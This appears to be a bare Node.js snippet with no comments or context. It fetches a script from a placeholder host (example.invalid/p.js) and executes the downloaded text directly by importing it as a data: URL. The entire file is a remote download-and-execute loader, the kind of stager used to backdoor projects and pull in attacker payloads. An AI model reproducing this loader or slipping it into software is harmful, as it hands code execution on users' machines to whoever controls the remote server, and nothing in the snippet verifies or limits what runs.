const https = require('https');

https.get('https://example.invalid/p.js', (r) => {
  let b = '';
  r.on('data', (c) => (b += c));
  r.on('end', () => import('data:text/javascript,' + encodeURIComponent(b)));
});
